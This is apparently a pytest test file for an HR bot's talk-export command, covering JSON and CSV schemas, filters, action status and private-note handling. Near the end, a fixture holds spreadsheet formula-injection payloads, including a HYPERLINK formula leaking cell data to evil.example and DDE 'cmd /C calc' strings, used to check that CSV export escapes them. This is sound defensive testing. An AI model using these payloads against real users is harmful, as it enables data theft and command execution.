"""Exporting talks: the JSON schema, filters, derived action status, private notes, CSV."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
import yaml
from sqlalchemy import event
from sqlalchemy.ext.asyncio import AsyncEngine

from bot.process.cli import main
from bot.records.export import PEOPLE_COLUMNS, export_talks
from storage.db import make_engine, session_scope
from storage.models import (
    ActionItem,
    ActionStatus,
    ChatIdentity,
    Cycle,
    Family,
    Platform,
    Review,
    Talk,
    TalkShare,
)
from tests.conftest import ROOT
from tests.factories import add_people, key

NOW = datetime.now(UTC)
BOB_TEAMS = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"
TODAY = NOW.date()
FACTS = 'Shipped the importer.\nMissed the "beta" date, by a week.\n第二行'
TALK_KEYS = {
    "id",
    "kind",
    "family",
    "manager_id",
    "employee_id",
    "held_on",
    "duration_minutes",
    "facts",
    "consensus",
    "employee_talk_share",
    "rating",
    "decisions",
    "employee_view",
    "acknowledged",
    "content_withheld",
    "actions",
    "manager",
    "employee",
}
ACTION_KEYS = {"id", "text", "owner_id", "owner_key", "due_on", "status"}


def talk(employee: str, held_on: date, n: int, **fields: object) -> Talk:
    values: dict[str, object] = {
        "kind": "one_on_one",
        "family": Family.DIALOGUE,
        "manager_id": key("U0MGR"),
        "employee_id": key(employee),
        "logged_by": key("U0MGR"),
        "held_on": held_on,
        "duration_minutes": 30,
        "facts": f"facts {n}",
        "consensus": f"consensus {n}",
        "submission_key": f"key-{n}",
        "created_at": NOW,
        **fields,
    }
    return Talk(**values)


async def seed(engine: AsyncEngine) -> None:
    """Manager U0MGR with reports U0ANN (a review with three actions, then a dialogue) and
    U0BOB (one acknowledged dialogue), each with their Slack account; Bob has a Teams one too."""
    await add_people(
        engine,
        [
            dict(slack_id="U0MGR", name="Mia", email="mia@example.com"),
            dict(slack_id="U0ANN", name="Ann", manager_id="U0MGR"),
            dict(slack_id="U0BOB", name="Bob", manager_id="U0MGR", employee_number="E7"),
        ],
    )
    async with session_scope(engine) as session:
        session.add(
            ChatIdentity(
                person_id=key("U0BOB"),
                platform=Platform.TEAMS,
                user_id=BOB_TEAMS,
                created_at=NOW,
                updated_at=NOW,
            )
        )
        later = talk("U0ANN", date(2025, 3, 1), 1)  # inserted first, held last
        early = talk(
            "U0ANN",
            date(2025, 1, 10),
            2,
            facts=FACTS,
            private_note="Worried about burnout.",
            employee_talk_share=TalkShare.UP_TO_HALF,
            family=Family.REVIEW,
            kind="annual_review",
        )
        bob = talk("U0BOB", date(2025, 2, 1), 3, acknowledged_at=NOW)
        cycle = Cycle(
            name="2024-Q4",
            starts_on=date(2024, 10, 1),
            ends_on=date(2024, 12, 31),
            review_from=date(2025, 1, 1),
            review_to=date(2025, 1, 14),
            created_at=NOW,
        )
        session.add_all([later, early, bob, cycle])
        await session.flush()
        session.add(
            Review(
                cycle_id=cycle.id,
                talk_id=early.id,
                employee_id=key("U0ANN"),
                manager_id=key("U0MGR"),
                rating=3,
                evidence=FACTS,
                decisions='["pay", "promotion"]',
                employee_view="Fair, but the beta date was not mine to set.",
                acknowledged_at=NOW,
                created_at=NOW,
                updated_at=NOW,
            )
        )
        for text, owner, due, status in (
            ("Write the design doc", "U0ANN", TODAY - timedelta(days=3), ActionStatus.OPEN),
            ("Book the training", "U0MGR", TODAY + timedelta(days=30), ActionStatus.OPEN),
            ("Fix the flaky test", "U0ANN", TODAY - timedelta(days=40), ActionStatus.DONE),
        ):
            session.add(
                ActionItem(
                    talk_id=early.id,
                    employee_id=key("U0ANN"),
                    owner_id=key(owner),
                    text=text,
                    due_on=due,
                    status=status,
                    created_at=NOW,
                )
            )
        await session.commit()


async def _seed_url(url: str) -> None:
    engine = make_engine(url)
    try:
        await seed(engine)
    finally:
        await engine.dispose()


def open_policy(path: Path) -> Path:
    """app.yaml as an organisation that lets HR read everything, private notes too (the
    schema tests below read every field; `test_privacy` covers the default)."""
    data = yaml.safe_load((ROOT / "app.yaml").read_text(encoding="utf-8"))
    data["privacy"]["hr_reads_private_notes"] = True
    for kind in data["talk_kinds"].values():
        kind["hr_reads_content"] = True
    data["talk_kinds"]["one_on_one"] = {**data["talk_kinds"]["checkin"]}
    data["talk_kinds"]["annual_review"] = {**data["talk_kinds"]["review"]}
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return path


def reads_all(kind: str, family: str) -> bool:
    return True


@pytest.fixture
def seeded(monkeypatch: pytest.MonkeyPatch, database_url: str, tmp_path: Path) -> str:
    asyncio.run(_seed_url(database_url))
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CADENCE_CONFIG", str(open_policy(tmp_path / "app.yaml")))
    return database_url


def export(capsys: pytest.CaptureFixture[str], *args: str) -> str:
    """Run `export` through the CLI and return what it printed."""
    capsys.readouterr()
    assert main(["export", *args]) == 0
    return capsys.readouterr().out


def test_json_export_lists_talks_in_held_order_with_exact_schema(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = export(capsys, "--format", "json")
    assert out.endswith("}\n") and "第二行" in out  # non-ASCII kept readable
    talks = json.loads(out)["talks"]
    assert [(t["employee_id"], t["held_on"]) for t in talks] == [
        ("U0ANN", "2025-01-10"),
        ("U0BOB", "2025-02-01"),
        ("U0ANN", "2025-03-01"),
    ]
    assert all(set(t) == TALK_KEYS for t in talks)
    review = talks[0]
    assert (review["kind"], review["family"], review["facts"]) == ("annual_review", "review", FACTS)
    assert (review["duration_minutes"], review["employee_talk_share"]) == (30, "up_to_half")
    assert talks[1]["employee_talk_share"] is None
    assert all(set(a) == ACTION_KEYS for a in review["actions"])
    assert [(a["text"], a["owner_id"], a["status"]) for a in review["actions"]] == [
        ("Write the design doc", "U0ANN", "overdue"),
        ("Book the training", "U0MGR", "open"),
        ("Fix the flaky test", "U0ANN", "done"),
    ]
    assert review["actions"][1]["due_on"] == (TODAY + timedelta(days=30)).isoformat()
    assert talks[1]["actions"] == [] and talks[2]["actions"] == []
    assert (review["rating"], review["decisions"], review["acknowledged"]) == (
        3,
        ["pay", "promotion"],
        True,
    )
    assert review["employee_view"] == "Fair, but the beta date was not mine to set."
    dialogues = [(t["rating"], t["decisions"], t["employee_view"]) for t in talks[1:]]
    assert dialogues == [(None, [], None), (None, [], None)]
    assert [t["acknowledged"] for t in talks[1:]] == [True, False]  # Bob acknowledged his


def test_export_names_people_by_slack_id_and_adds_key_email_and_each_platforms_id(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    data = json.loads(export(capsys, "--format", "json"))
    bob = data["talks"][1]
    assert (bob["manager_id"], bob["employee_id"]) == ("U0MGR", "U0BOB")  # as before
    assert bob["manager"] == {
        "key": key("U0MGR"),
        "name": "Mia",
        "email": "mia@example.com",
        "employee_number": None,
        "slack_id": "U0MGR",
        "teams_id": None,
    }
    assert (bob["employee"]["key"], bob["employee"]["teams_id"]) == (key("U0BOB"), BOB_TEAMS)
    assert bob["employee"]["employee_number"] == "E7"
    owners = [(a["owner_id"], a["owner_key"]) for a in data["talks"][0]["actions"]]
    assert owners[:2] == [("U0ANN", key("U0ANN")), ("U0MGR", key("U0MGR"))]
    rows = list(csv.DictReader(io.StringIO(export(capsys, "--format", "csv"), newline="")))
    assert (rows[1]["employee_id"], rows[1]["employee_key"]) == ("U0BOB", key("U0BOB"))
    assert (rows[1]["employee_name"], rows[1]["employee_teams_id"]) == ("Bob", BOB_TEAMS)
    assert rows[1]["manager_teams_id"] == ""


def test_employee_and_since_filters_narrow_the_export(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    def held(*args: str) -> list[tuple[str, str]]:
        talks = json.loads(export(capsys, *args))["talks"]
        return [(t["employee_id"], t["held_on"]) for t in talks]

    assert held("--employee", "U0ANN") == [("U0ANN", "2025-01-10"), ("U0ANN", "2025-03-01")]
    assert held("--since", "2025-02-01") == [("U0BOB", "2025-02-01"), ("U0ANN", "2025-03-01")]
    assert held("--employee", "U0ANN", "--since", "2025-01-11") == [("U0ANN", "2025-03-01")]


def test_an_unknown_employee_is_named_in_operator_words_and_nothing_is_printed(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--employee", "U1NOPE"]) == 1

    out, err = capsys.readouterr()
    assert out == ""
    assert err.startswith("error: nobody in the org chart is 'U1NOPE' (a Slack or Teams user id")


def test_private_notes_appear_only_when_asked_for(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert "private_note" not in export(capsys)
    assert "Worried about burnout." not in export(capsys, "--format", "csv")
    talks = json.loads(export(capsys, "--include-private"))["talks"]
    assert [t["private_note"] for t in talks] == ["Worried about burnout.", None, None]
    assert all(set(t) == TALK_KEYS | {"private_note"} for t in talks)


def test_csv_export_parses_back_with_multiline_facts_intact(
    seeded: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = export(capsys, "--format", "csv", "--include-private")
    reader = csv.DictReader(io.StringIO(out, newline=""))
    rows = list(reader)
    assert reader.fieldnames == [
        "id",
        "kind",
        "family",
        "manager_id",
        "employee_id",
        "held_on",
        "duration_minutes",
        "facts",
        "consensus",
        "employee_talk_share",
        "rating",
        "decisions",
        "employee_view",
        "acknowledged",
        "content_withheld",
        "private_note",
        "actions",
        *PEOPLE_COLUMNS,
    ]
    assert [r["held_on"] for r in rows] == ["2025-01-10", "2025-02-01", "2025-03-01"]
    first = rows[0]
    assert first["facts"] == FACTS
    assert (first["private_note"], rows[1]["private_note"]) == ("Worried about burnout.", "")
    assert (first["employee_talk_share"], rows[1]["employee_talk_share"]) == ("up_to_half", "")
    actions = json.loads(first["actions"])
    assert [a["status"] for a in actions] == ["overdue", "open", "done"]
    assert json.loads(rows[2]["actions"]) == []
    assert (first["rating"], json.loads(first["decisions"])) == ("3", ["pay", "promotion"])
    assert (rows[2]["rating"], json.loads(rows[2]["decisions"])) == ("", [])
    assert [r["acknowledged"] for r in rows] == ["true", "true", "false"]
    assert rows[2]["employee_view"] == "" and first["employee_view"].startswith("Fair")
    plain = csv.DictReader(io.StringIO(export(capsys, "--format", "csv"), newline=""))
    assert "private_note" not in (plain.fieldnames or [])


async def test_export_of_an_empty_database_has_no_talks(engine: AsyncEngine) -> None:
    data = await export_talks(
        engine,
        employee_id=None,
        since=None,
        include_private=True,
        today=TODAY,
        reads_content=reads_all,
        reader="operator:test",
        now=NOW,
    )
    assert data == {"talks": []}


async def test_export_runs_the_same_number_of_queries_for_one_talk_or_many(
    engine: AsyncEngine,
) -> None:
    await seed(engine)
    statements: list[str] = []

    def count(_conn: object, _cursor: object, statement: str, *_args: object) -> None:
        statements.append(statement)

    event.listen(engine.sync_engine, "before_cursor_execute", count)

    async def queries_for(employee_id: str | None) -> tuple[int, int]:
        statements.clear()
        data = await export_talks(
            engine,
            employee_id=employee_id,
            since=None,
            include_private=False,
            today=TODAY,
            reads_content=reads_all,
            reader="operator:test",
            now=NOW,
        )
        return len(data["talks"]), len(statements)

    one, many = await queries_for(key("U0BOB")), await queries_for(None)
    assert (one[0], many[0]) == (1, 3)
    # talks, their actions, their reviews, people, accounts, and the access log's one insert
    assert one[1] == many[1] == 6


HOSTILE = {
    "facts": '=HYPERLINK("https://evil.example/?leak="&B2,"Click")',
    "consensus": "+cmd|' /C calc'!A0",
    "private_note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "employee_view": "-2+3+cmd|' /C calc'!A0",
    "action": "\t=1+1",
    "kind": "\r=2+2",
}


async def _seed_hostile(url: str) -> None:
    engine = make_engine(url)
    try:
        await add_people(
            engine,
            [
                dict(slack_id="U0MGR", name="=cmd"),
                dict(slack_id="U0ANN", name="=cmd", manager_id="U0MGR"),
            ],
        )
        async with session_scope(engine) as session:
            hostile = talk(
                "U0ANN",
                date(2025, 1, 10),
                9,
                kind=HOSTILE["kind"],
                facts=HOSTILE["facts"],
                consensus=HOSTILE["consensus"],
                private_note=HOSTILE["private_note"],
                family=Family.REVIEW,
            )
            cycle = Cycle(
                name="2024-Q4",
                starts_on=date(2024, 10, 1),
                ends_on=date(2024, 12, 31),
                review_from=date(2025, 1, 1),
                review_to=date(2025, 1, 14),
                created_at=NOW,
            )
            session.add_all([hostile, cycle])
            await session.flush()
            session.add(
                Review(
                    cycle_id=cycle.id,
                    talk_id=hostile.id,
                    employee_id=key("U0ANN"),
                    manager_id=key("U0MGR"),
                    rating=3,
                    evidence=HOSTILE["facts"],
                    decisions="[]",
                    employee_view=HOSTILE["employee_view"],
                    created_at=NOW,
                    updated_at=NOW,
                )
            )
            session.add(
                ActionItem(
                    talk_id=hostile.id,
                    employee_id=key("U0ANN"),
                    owner_id=key("U0ANN"),
                    text=HOSTILE["action"],
                    due_on=TODAY,
                    status=ActionStatus.OPEN,
                    created_at=NOW,
                )
            )
            await session.commit()
    finally:
        await engine.dispose()


@pytest.fixture
def hostile(monkeypatch: pytest.MonkeyPatch, database_url: str, tmp_path: Path) -> str:
    asyncio.run(_seed_hostile(database_url))
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.setenv("CADENCE_CONFIG", str(open_policy(tmp_path / "app.yaml")))
    return database_url


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(
    hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = export(capsys, "--format", "csv", "--include-private")
    [row] = list(csv.DictReader(io.StringIO(out, newline="")))

    for field in ("facts", "consensus", "private_note", "employee_view", "kind"):
        assert row[field] == "'" + HOSTILE[field], field
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    [action] = json.loads(row["actions"])  # a JSON cell starts with `[`: kept as it is
    assert action["text"] == HOSTILE["action"]


def test_json_export_keeps_formula_like_text_verbatim(
    hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    [exported] = json.loads(export(capsys, "--format", "json", "--include-private"))["talks"]

    for field in ("facts", "consensus", "private_note", "employee_view", "kind"):
        assert exported[field] == HOSTILE[field], field
    assert exported["actions"][0]["text"] == HOSTILE["action"]
